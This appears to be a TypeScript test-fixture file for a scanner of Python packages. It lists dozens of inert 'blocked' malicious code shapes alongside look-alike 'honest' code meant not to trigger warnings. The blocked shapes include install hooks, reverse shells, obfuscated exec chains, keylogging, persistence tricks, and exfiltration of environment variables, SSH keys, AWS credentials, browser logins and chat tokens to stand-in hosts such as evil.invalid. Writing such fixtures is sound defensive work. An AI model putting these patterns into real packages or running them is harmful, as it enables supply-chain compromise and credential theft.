/** Inert programs, each a shape of a technique that runs unasked. The host resolves nowhere. */
export interface Shape {
  readonly name: string;
  /** File of the fixture package the lines stand in. */
  readonly file?: string;
  readonly lines: readonly string[];
  readonly others?: Readonly<Record<string, string>>;
}

const B64 = 'cHJpbnQoMSk=';

const SETUP = 'fixture-1.0/setup.py';

/** What runs unasked and must be blocked. */
export const BLOCKED_SHAPES: readonly Shape[] = [
  {
    name: 'a hook registered by a decorator-made class',
    file: SETUP,
    lines: [
      'import os',
      'from setuptools import setup',
      'from setuptools.command.install import install',
      'def make():',
      '    class Inner(install):',
      '        def run(self):',
      '            os.system("curl https://evil.invalid/x | sh")',
      '            super().run()',
      '    return Inner',
      'setup(cmdclass={"install": make()})',
    ],
  },
  {
    name: 'a hook of egg_info that acts in its initialiser',
    file: SETUP,
    lines: [
      'import urllib.request, socket, getpass',
      'from setuptools import setup',
      'from setuptools.command.egg_info import egg_info as base',
      'class E(base):',
      '    def __init__(self, *a, **k):',
      '        base.__init__(self, *a, **k)',
      '        q = {"h": socket.gethostname(), "u": getpass.getuser()}',
      '        urllib.request.urlopen("https://evil.invalid/?" + urllib.parse.urlencode(q))',
      'setup(cmdclass=dict(egg_info=E))',
    ],
  },
  {
    name: 'an action at interpreter exit',
    file: SETUP,
    lines: [
      'import atexit, requests, os',
      'def late():',
      '    requests.post("https://evil.invalid", json=dict(os.environ))',
      'atexit.register(late)',
      'from setuptools import setup',
      'setup()',
    ],
  },
  {
    name: 'an action guarded by the sub-command',
    file: SETUP,
    lines: [
      'import sys, os',
      'from setuptools import setup',
      'if "install" in sys.argv or "bdist_wheel" in sys.argv:',
      '    os.system("wget -q https://evil.invalid/a -O /tmp/a; chmod +x /tmp/a; /tmp/a")',
      'setup()',
    ],
  },
  {
    name: 'a sibling that is star-imported',
    lines: ['from .core import *'],
    others: {
      'fixture-1.0/pkg/core.py': `import base64\nexec(base64.b64decode("${B64}"))\n`,
    },
  },
  {
    name: 'a helper two modules away, imported lazily inside a function',
    lines: ['def go():', '    from .a import deep', '    return deep()', 'go()'],
    others: {
      'fixture-1.0/pkg/a.py': 'from .b import run\ndef deep():\n    return run("hidden")\n',
      'fixture-1.0/pkg/b.py':
        'import requests\ndef run(x):\n    exec(requests.get("https://evil.invalid/p").text)\n',
    },
  },
  {
    name: 'a forked child',
    lines: [
      'import os',
      'if os.fork() == 0:',
      '    os.setsid()',
      '    os.system("bash -c \'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\'")',
    ],
  },
  {
    name: 'a process pool',
    lines: [
      'import os, multiprocessing, requests',
      'def send():',
      '    requests.post("https://evil.invalid", data=str(os.environ))',
      'multiprocessing.Process(target=send, daemon=True).start()',
    ],
  },
  {
    name: 'an executor',
    lines: [
      'from concurrent.futures import ThreadPoolExecutor',
      'import requests, os',
      'def send(data): requests.post("https://evil.invalid", json=data)',
      'ThreadPoolExecutor().submit(send, dict(os.environ))',
    ],
  },
  {
    name: 'a coroutine',
    lines: [
      'import asyncio, aiohttp, os',
      'async def main():',
      '    async with aiohttp.ClientSession() as session:',
      '        async with session.post("https://evil.invalid/c", json={k: v for k, v in os.environ.items()}) as r:',
      '            await r.text()',
      'asyncio.get_event_loop().run_until_complete(main())',
    ],
  },
  {
    name: 'a class whose constructor acts, made at import',
    lines: [
      'import subprocess, urllib.request, tempfile, os',
      'class Updater:',
      '    URL = "https://evil.invalid/update.exe"',
      '    def __init__(self):',
      '        self.target = os.path.join(tempfile.gettempdir(), "update.exe")',
      '        self.fetch()',
      '        self.launch()',
      '    def fetch(self):',
      '        data = urllib.request.urlopen(self.URL).read()',
      '        with open(self.target, "wb") as f:',
      '            f.write(data)',
      '    def launch(self):',
      '        subprocess.Popen([self.target], shell=False)',
      'Updater()',
    ],
  },
  {
    name: 'a chunked download that is started',
    lines: [
      'import requests, os',
      'p = os.path.expandvars("%TEMP%\\\\x.exe")',
      'r = requests.get("https://evil.invalid/x.exe", stream=True)',
      'with open(p, "wb") as f:',
      '    for chunk in r.iter_content(1024):',
      '        f.write(chunk)',
      'os.startfile(p)',
    ],
  },
  {
    name: 'http.client into exec',
    lines: [
      'import http.client as h',
      'c = h.HTTPSConnection("evil.invalid")',
      'c.request("GET", "/p")',
      'exec(c.getresponse().read().decode())',
    ],
  },
  {
    name: 'a raw socket into exec',
    lines: [
      'import socket',
      's = socket.socket()',
      's.connect(("203.0.113.7", 8080))',
      'data = b""',
      'while True:',
      '    part = s.recv(4096)',
      '    if not part: break',
      '    data += part',
      'exec(data)',
    ],
  },
  {
    name: 'code kept in a JSON answer',
    lines: [
      'import json, urllib.request as u',
      'answer = json.loads(u.urlopen("https://evil.invalid/c.json").read())',
      'eval(compile(answer["code"], "<s>", "exec"))',
    ],
  },
  {
    name: 'a stager in a temporary file',
    lines: [
      'import tempfile, subprocess, sys',
      'f = tempfile.NamedTemporaryFile("w", suffix=".py", delete=False)',
      'f.write("import urllib.request as r\\nexec(r.urlopen(\'https://evil.invalid/s\').read())")',
      'f.close()',
      'subprocess.Popen([sys.executable, f.name])',
    ],
  },
  {
    name: 'a stager by descriptor',
    lines: [
      'import tempfile, os, sys',
      'fd, path = tempfile.mkstemp(".py")',
      'os.write(fd, b"import os; os.system(\'curl https://evil.invalid/x | sh\')")',
      'os.close(fd)',
      'os.system(sys.executable + " " + path)',
    ],
  },
  {
    name: 'PowerShell, encoded as UTF-16',
    lines: [
      'import subprocess',
      `subprocess.run(["powershell", "-NoP", "-W", "Hidden", "-Enc", "${Buffer.from(
        'IEX (New-Object Net.WebClient).DownloadString("https://evil.invalid/a.ps1")',
        'utf16le',
      ).toString('base64')}"])`,
    ],
  },
  {
    name: 'PowerShell, put together from parts',
    lines: [
      'import os',
      'parts = ["power", "shell -w hidden -c ", "\\"iwr https://evil.invalid/a.exe -OutFile a.exe; ", "Start-Process a.exe\\""]',
      'os.popen("".join(parts))',
    ],
  },
  {
    name: 'mshta',
    lines: ['import subprocess', 'subprocess.call("mshta https://evil.invalid/a.hta", shell=True)'],
  },
  {
    name: 'an embedded program',
    lines: [
      'import base64, os',
      `BLOB = "${Buffer.from('MZinert'.repeat(40)).toString('base64')}"`,
      'open("w.exe", "wb").write(base64.b64decode(BLOB))',
      'os.system("start w.exe")',
    ],
  },
  {
    name: 'a shipped shell script',
    lines: ['import os', 'os.system("sh " + os.path.join(os.path.dirname(__file__), "go.sh"))'],
    others: { 'fixture-1.0/pkg/go.sh': '#!/bin/sh\ncurl -s https://evil.invalid/x | sh\n' },
  },
  {
    name: 'a shipped Python file without a suffix',
    lines: [
      'import subprocess, sys, pathlib',
      'subprocess.Popen([sys.executable, str(pathlib.Path(__file__).parent / "data" / "cache")])',
    ],
    others: {
      'fixture-1.0/pkg/data/cache':
        '#!/usr/bin/env python3\nimport requests\nexec(requests.get("https://evil.invalid/x").text)\n',
    },
  },
  {
    name: 'a module of its own, started by name',
    file: SETUP,
    lines: ['import subprocess, sys', 'subprocess.run([sys.executable, "-m", "pkg.work"])'],
    others: {
      'fixture-1.0/pkg/__init__.py': '',
      'fixture-1.0/pkg/work.py':
        'import os, requests\nif __name__ == "__main__":\n    requests.post("https://evil.invalid", json=dict(os.environ))\n',
    },
  },
  {
    name: 'a module loaded by path',
    file: SETUP,
    lines: [
      'import importlib.util, os',
      's = importlib.util.spec_from_file_location("x", os.path.join(os.path.dirname(__file__), "extra", "x.py"))',
      'm = importlib.util.module_from_spec(s)',
      's.loader.exec_module(m)',
      'm.run()',
    ],
    others: {
      'fixture-1.0/extra/x.py':
        'import os\ndef run():\n    os.system("curl https://evil.invalid/x | bash")\n',
    },
  },
  {
    name: 'a data file that holds encoded code',
    lines: [
      'import os, zlib, base64',
      'with open(os.path.join(os.path.dirname(__file__), "words.bin"), "rb") as f:',
      '    exec(zlib.decompress(base64.b85decode(f.read())))',
    ],
    others: { 'fixture-1.0/pkg/words.bin': 'inert' },
  },
  {
    name: 'pixels of a picture',
    lines: [
      'from PIL import Image',
      'import os',
      'im = Image.open(os.path.join(os.path.dirname(__file__), "a.png"))',
      'exec("".join(chr(p[0] ^ 7) for p in im.getdata()))',
    ],
    others: { 'fixture-1.0/pkg/a.png': 'inert' },
  },
  {
    name: 'XOR in a loop with a long key',
    lines: [
      'key = "k3y"',
      `data = bytes.fromhex("${Buffer.from('print(1)\n'.repeat(60)).toString('hex')}")`,
      'out = bytearray()',
      'for i, b in enumerate(data):',
      '    out.append(b ^ ord(key[i % len(key)]))',
      'exec(bytes(out))',
    ],
  },
  {
    name: 'a Caesar shift by modular arithmetic',
    lines: [
      'def back(text, n):',
      '    result = ""',
      '    for c in text:',
      '        result += chr((ord(c) - n) % 128)',
      '    return result',
      'exec(back("sulqw+4,", 3))',
    ],
  },
  {
    name: 'a translation table',
    lines: [
      'import string',
      'table = str.maketrans(string.ascii_lowercase, string.ascii_lowercase[::-1])',
      'exec("kirmg(1)".translate(table))',
    ],
  },
  { name: 'a large integer', lines: ['n = 8101821071164049041', 'exec(n.to_bytes(8, "big"))'] },
  {
    name: 'marshal in zlib in base64',
    lines: [
      'import marshal, zlib, base64',
      'exec(marshal.loads(zlib.decompress(base64.b64decode("eJwDAAAAAAE="))))',
    ],
  },
  {
    name: 'Fernet with its key',
    lines: [
      'from cryptography.fernet import Fernet',
      'exec(Fernet(b"a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2U=").decrypt(b"gAAAA"))',
    ],
  },
  {
    name: 'AES with its key',
    lines: [
      'from Crypto.Cipher import AES',
      'import base64',
      'c = AES.new(b"0123456789abcdef", AES.MODE_CBC, b"0" * 16)',
      'exec(c.decrypt(base64.b64decode("AAAA")).decode())',
    ],
  },
  {
    name: 'lambdas around getattr',
    lines: [
      `(lambda f, d: f(d("${B64}")))(getattr(__import__("builtins"), "\\x65\\x78\\x65\\x63"), getattr(__import__("base64"), "b64decode"))`,
    ],
  },
  {
    name: 'globals by an escaped name',
    lines: [`import base64`, `globals()["__builtins__"].__dict__["ex" + "ec"](base64.b64decode("${B64}"))`],
  },
  {
    name: 'builtins through vars and a list of pieces',
    lines: [
      'import builtins, base64',
      `vars(builtins)["".join(["e", "x", "e", "c"])](base64.b64decode("${B64}"))`,
    ],
  },
  {
    name: 'operator.attrgetter',
    lines: [
      'import operator, builtins, base64',
      `operator.attrgetter("exec")(builtins)(base64.b64decode("${B64}"))`,
    ],
  },
  {
    name: 'functools.partial',
    lines: ['import functools, base64', `functools.partial(exec, base64.b64decode("${B64}"))()`],
  },
  { name: 'map over exec', lines: ['import base64', `list(map(exec, [base64.b64decode("${B64}")]))`] },
  {
    name: 'types.CodeType through FunctionType',
    lines: [
      'import types, marshal, base64',
      `types.FunctionType(marshal.loads(base64.b64decode("${B64}")), globals())()`,
    ],
  },
  {
    name: 'a string subclass that decodes',
    lines: [
      'import base64',
      'class T(str):',
      '    def open(self): return base64.b64decode(self)',
      `exec(T("${B64}").open())`,
    ],
  },
  {
    name: 'host and user in the path of a request',
    file: SETUP,
    lines: [
      'import os, socket, requests',
      'requests.get(f"https://evil.invalid/{socket.gethostname()}/{os.getlogin()}")',
    ],
  },
  {
    name: 'a name made of data, looked up',
    file: SETUP,
    lines: [
      'import socket, getpass, binascii, os',
      'data = binascii.hexlify((getpass.getuser() + os.getcwd()).encode()).decode()',
      'socket.gethostbyname(data[:60] + ".x.evil.invalid")',
    ],
  },
  {
    name: 'nslookup of data',
    file: SETUP,
    lines: [
      'import os, platform',
      'os.system("nslookup " + platform.node() + "." + os.getenv("USER") + ".evil.invalid")',
    ],
  },
  {
    name: 'tokens out of the environment',
    lines: [
      'import os, requests',
      'found = {k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k}',
      'requests.post("https://evil.invalid/t", json=found)',
    ],
  },
  {
    name: 'key files',
    lines: [
      'import os, glob, requests',
      'for path in glob.glob(os.path.expanduser("~/.ssh/*")):',
      '    with open(path) as f:',
      '        requests.post("https://evil.invalid/k", data={"name": path, "body": f.read()})',
    ],
  },
  {
    name: 'a folder archived and uploaded',
    lines: [
      'import shutil, requests, pathlib',
      'where = shutil.make_archive("/tmp/d", "zip", str(pathlib.Path.home() / ".aws"))',
      'requests.post("https://evil.invalid/u", files={"f": open(where, "rb")})',
    ],
  },
  {
    name: 'files found by walking',
    lines: [
      'import os, requests',
      'for root, dirs, files in os.walk(os.path.expanduser("~")):',
      '    for name in files:',
      '        if name.endswith(".env"):',
      '            requests.post("https://evil.invalid/f", data=open(os.path.join(root, name)).read())',
    ],
  },
  {
    name: 'a browser database',
    lines: [
      'import os, sqlite3, shutil, requests',
      'base = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")',
      'shutil.copy2(base, "t.db")',
      'rows = sqlite3.connect("t.db").cursor().execute("select * from logins").fetchall()',
      'requests.post("https://evil.invalid/b", json=rows)',
    ],
  },
  {
    name: 'chat tokens by a pattern',
    lines: [
      'import os, re, requests',
      'folder = os.getenv("APPDATA") + "\\\\discord\\\\Local Storage\\\\leveldb"',
      'found = []',
      'for name in os.listdir(folder):',
      '    for line in open(folder + "\\\\" + name, errors="ignore"):',
      '        found += re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", line)',
      'requests.post("https://evil.invalid/w", json={"content": "\\n".join(found)})',
    ],
  },
  {
    name: 'the clipboard',
    lines: ['import pyperclip, requests', 'requests.post("https://evil.invalid", data=pyperclip.paste())'],
  },
  {
    name: 'the screen',
    lines: [
      'from PIL import ImageGrab',
      'import io, requests',
      'b = io.BytesIO()',
      'ImageGrab.grab().save(b, "PNG")',
      'requests.post("https://evil.invalid", files={"s": b.getvalue()})',
    ],
  },
  {
    name: 'keys that are pressed',
    lines: [
      'from pynput import keyboard',
      'import requests',
      'log = []',
      'def on_press(key):',
      '    log.append(str(key))',
      '    requests.post("https://evil.invalid/k", data="".join(log))',
      'keyboard.Listener(on_press=on_press).start()',
    ],
  },
  {
    name: 'a webhook class',
    lines: [
      'from discord_webhook import DiscordWebhook',
      'import socket, getpass',
      'hook = DiscordWebhook(url="https://evil.invalid/api/hook", content=socket.gethostname() + getpass.getuser())',
      'hook.execute()',
    ],
  },
  {
    name: 'mail',
    lines: [
      'import smtplib, os',
      's = smtplib.SMTP("mail.evil.invalid", 587)',
      's.login("a", "b")',
      's.sendmail("a@evil.invalid", "b@evil.invalid", str(dict(os.environ)))',
    ],
  },
  {
    name: 'a shell over a socket',
    lines: [
      'import socket, subprocess, os',
      's = socket.socket(); s.connect(("203.0.113.5", 9001))',
      '[os.dup2(s.fileno(), n) for n in range(3)]',
      'subprocess.call(["/bin/sh", "-i"])',
    ],
  },
  {
    name: 'a loop that runs what it receives',
    lines: [
      'import socket, subprocess',
      's = socket.socket(); s.connect(("evil.invalid", 4444))',
      'while True:',
      '    command = s.recv(1024).decode()',
      '    s.send(subprocess.check_output(command, shell=True))',
    ],
  },
  {
    name: 'a polling agent',
    lines: [
      'import requests, subprocess, time, threading',
      'def poll():',
      '    while True:',
      '        for task in requests.get("https://evil.invalid/tasks").json():',
      '            subprocess.run(task["cmd"], shell=True)',
      '        time.sleep(5)',
      'threading.Thread(target=poll, daemon=True).start()',
    ],
  },
  {
    name: 'the registry',
    lines: [
      'import winreg',
      'k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_SET_VALUE)',
      'winreg.SetValueEx(k, "x", 0, winreg.REG_SZ, "x.exe")',
    ],
  },
  {
    name: 'a startup folder in pieces',
    lines: [
      'import os, shutil',
      'place = os.path.join(os.getenv("APPDATA"), "Microsoft", "Windows", "Start Menu", "Programs", "Startup")',
      'shutil.copyfile("x.exe", os.path.join(place, "x.exe"))',
    ],
  },
  {
    name: 'a crontab line',
    lines: [
      'import os',
      'os.system(\'(crontab -l; echo "* * * * * curl https://evil.invalid/x|sh") | crontab -\')',
    ],
  },
  {
    name: 'a shell profile',
    lines: [
      'from pathlib import Path',
      'with (Path.home() / ".bashrc").open("a") as f:',
      '    f.write("python3 -m pkg.work &\\n")',
    ],
  },
  {
    name: 'shellcode',
    lines: [
      'import ctypes',
      'code = b"\\x90\\x90\\xc3" * 40',
      'p = ctypes.windll.kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)',
      'ctypes.windll.kernel32.RtlMoveMemory(p, code, len(code))',
      'ctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)',
    ],
  },
  {
    name: 'another host than the address says',
    lines: [
      'import os, requests',
      'requests.post("https://cdn.evil.invalid/x", headers={"Host": "a.evil.invalid"}, data=os.popen("id").read())',
    ],
  },
  {
    name: 'the tracing of unhandled errors',
    lines: [
      'import sys, requests, os',
      'def hook(*a): requests.post("https://evil.invalid", json=dict(os.environ))',
      'sys.excepthook = hook',
    ],
  },
  {
    name: 'a module-level __getattr__',
    lines: ['import base64', 'def __getattr__(name):', `    exec(base64.b64decode("${B64}"))`],
  },
];

/** Honest code that looks alike: it must not even be warned about. */
export const HONEST_SHAPES: readonly Shape[] = [
  {
    name: 'a version file that setup.py executes',
    file: SETUP,
    lines: [
      'import os, re',
      'from setuptools import setup',
      'about = {}',
      'with open(os.path.join(os.path.dirname(__file__), "pkg", "version.py")) as f:',
      '    exec(f.read(), about)',
      'setup(version=about["__version__"])',
    ],
    others: { 'fixture-1.0/pkg/version.py': '__version__ = "1.0"\n' },
  },
  {
    name: 'a native build',
    file: SETUP,
    lines: [
      'import subprocess, sys',
      'from setuptools import setup, Extension',
      'flags = subprocess.check_output(["pkg-config", "--cflags", "zlib"]).decode().split()',
      'commit = subprocess.run(["git", "describe", "--tags"], capture_output=True).stdout',
      'include = subprocess.check_output([sys.executable, "-c", "import numpy; print(numpy.get_include())"])',
      'setup(ext_modules=[Extension("x", ["x.c"], extra_compile_args=flags)])',
    ],
  },
  {
    name: 'a download command that only developers call',
    file: SETUP,
    lines: [
      'import subprocess, sys, urllib.request',
      'from setuptools import Command, setup',
      'class Fetch(Command):',
      '    def run(self):',
      '        urllib.request.urlretrieve("https://evil.invalid/data.zip", "data.zip")',
      '        subprocess.check_call(["unzip", "data.zip"])',
      'setup(cmdclass={"fetch_data": Fetch})',
    ],
  },
  {
    name: 'an upload command that only the author calls',
    file: SETUP,
    lines: [
      'import os, sys',
      'from setuptools import setup',
      'if sys.argv[-1] == "publish":',
      '    os.system("python setup.py sdist bdist_wheel")',
      '    os.system("twine upload dist/*")',
      '    sys.exit()',
      'setup()',
    ],
  },
  {
    name: 'a wrapper of processes',
    lines: [
      'import subprocess, shlex',
      'def run(command, **options):',
      '    return subprocess.run(shlex.split(command), **options)',
    ],
  },
  {
    name: 'generated classes',
    lines: [
      'TEMPLATE = "def {name}(self, {args}):\\n    return self._call({name!r}, {args})"',
      'def build(name, args):',
      '    space = {}',
      '    exec(TEMPLATE.format(name=name, args=", ".join(args)), space)',
      '    return space[name]',
      'for each in ("get", "put"):',
      '    globals()[each] = build(each, ["key"])',
    ],
  },
  {
    name: 'icons',
    lines: ['import base64', 'ICON = base64.b64decode("iVBORw0KGgo=")', 'def icon(): return ICON'],
  },
  {
    name: 'a browser cookie reader',
    lines: [
      'import os, sqlite3, shutil',
      'def cookies():',
      '    path = os.path.expanduser("~/.config/google-chrome/Default/Cookies")',
      '    shutil.copy(path, "/tmp/c.db")',
      '    return sqlite3.connect("/tmp/c.db").execute("select * from cookies").fetchall()',
    ],
  },
  {
    name: 'telemetry to a configured place',
    lines: [
      'import os, platform, requests',
      'def track(event):',
      '    if os.environ.get("DO_NOT_TRACK"): return',
      '    requests.post(os.environ["COLLECTOR"], json={"event": event, "os": platform.system()})',
    ],
  },
  {
    name: 'an API client',
    lines: [
      'import os, requests',
      'class Client:',
      '    base = "https://api.evil.invalid/v1"',
      '    def __init__(self, key=None):',
      '        self.key = key or os.environ.get("SERVICE_API_KEY")',
      '    def create(self, **body):',
      '        return requests.post(self.base + "/things", json=body, headers={"Authorization": self.key}).json()',
    ],
  },
  {
    name: 'an uploader of files the caller names',
    lines: [
      'import requests',
      'def upload(path):',
      '    where = requests.post("https://api.evil.invalid/uploads").json()["url"]',
      '    with open(path, "rb") as f:',
      '        requests.put(where, data=f)',
    ],
  },
  {
    name: 'a driver that is fetched when it is asked for',
    lines: [
      'import os, subprocess, urllib.request, hashlib',
      'def start(version, args):',
      '    path = os.path.join(os.path.expanduser("~/.cache/driver"), version)',
      '    urllib.request.urlretrieve(f"https://evil.invalid/{version}/driver.zip", path)',
      '    assert hashlib.sha256(open(path, "rb").read()).hexdigest()',
      '    return subprocess.Popen([path] + args)',
    ],
  },
  {
    name: 'the rules of a scanner',
    lines: [
      'RULES = {',
      '    "shell": r"curl https://.* \\| sh",',
      '    "reverse": "bash -i >& /dev/tcp/1.2.3.4/1 0>&1",',
      '    "key": "~/.ssh/id_rsa",',
      '}',
    ],
  },
  {
    name: 'a checksum in a loop over many bytes',
    lines: [
      'TABLE = []',
      'for n in range(256):',
      '    c = n',
      '    for _ in range(8):',
      '        c = (c >> 1) ^ 0xEDB88320 if c & 1 else c >> 1',
      '    TABLE.append(c)',
      'NAMES = {v: k for k, v in enumerate(TABLE)}',
    ],
  },
  {
    name: 'a library that loads the native code of a platform',
    lines: [
      'import ctypes, os, sys',
      'def load():',
      '    name = {"win32": "x.dll", "darwin": "libx.dylib"}.get(sys.platform, "libx.so")',
      '    return ctypes.CDLL(os.path.join(os.path.dirname(__file__), name))',
    ],
  },
  {
    name: 'a lazy importer',
    lines: [
      'import importlib, sys',
      'def __getattr__(name):',
      '    module = importlib.import_module("." + name, __name__)',
      '    setattr(sys.modules[__name__], name, module)',
      '    return module',
    ],
  },
  {
    name: 'a compatibility module',
    lines: [
      'import sys',
      'if sys.version_info[0] >= 3:',
      '    import builtins',
      '    exec_ = getattr(builtins, "exec")',
      'else:',
      '    def exec_(code, globs=None): exec("exec code in globs")',
    ],
  },
  {
    name: 'terminal completion that the user asks for',
    lines: [
      'import os',
      'def install_completion(shell):',
      '    with open(os.path.expanduser("~/.bashrc"), "a") as f:',
      '        f.write("source ~/.x-complete.sh\\n")',
    ],
  },
  {
    name: 'a client that looks at the answer to a password',
    lines: [
      'import requests',
      'def login(user, password):',
      '    answer = requests.post("https://service.example/login", data={"u": user, "p": password})',
      '    answer.raise_for_status()',
      '    return answer.json()["token"]',
    ],
  },
  {
    name: 'a password that goes to one service twice',
    lines: [
      'import requests',
      'def login(user, password):',
      '    answer = requests.post("https://auth.service.example/login", data={"p": password})',
      '    requests.get("https://api.service.example/warm", params={"p": password})',
      '    return answer.json()',
    ],
  },
  {
    name: 'a tool that says what not to do',
    lines: [
      'from mcp.server.fastmcp import FastMCP',
      'app = FastMCP("notes")',
      '@app.tool()',
      'def add(title):',
      '    """Save a note under ~/.notes. Never overwrite a note without telling the user."""',
      '    return "ok"',
    ],
  },
  {
    name: 'a module that loads its parts late',
    lines: [
      'import importlib',
      'def __getattr__(name):',
      '    return importlib.import_module("." + name, __name__)',
    ],
  },
  {
    name: 'a folder of its own that is removed',
    lines: [
      'import os, shutil',
      'def clean(name):',
      '    shutil.rmtree(os.path.join(os.path.expanduser("~"), "Documents", "fixture", name))',
    ],
  },
  {
    name: 'a search by multicast',
    lines: [
      'import socket, struct',
      'def find():',
      '    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
      '    group = struct.pack("4sl", socket.inet_aton("239.255.255.250"), socket.INADDR_ANY)',
      '    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group)',
      '    s.sendto(b"M-SEARCH * HTTP/1.1", ("239.255.255.250", 1900))',
      '    return s.recv(1024)',
    ],
  },
  {
    name: 'a letter sent by somebody who signs in first',
    lines: [
      'import smtplib',
      'def letter(user, password, text):',
      '    server = smtplib.SMTP("smtp.service.example", 587)',
      '    server.login(user, password)',
      '    server.sendmail(user, user, text)',
    ],
  },
  {
    name: 'a request that a secret signs',
    lines: [
      'import hashlib, hmac, requests',
      'def alert(secret, body):',
      '    signature = hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()',
      '    try:',
      '        requests.post("https://service.example/hook", headers={"X-Signature": signature}, data=body)',
      '    except Exception:',
      '        pass',
    ],
  },
];
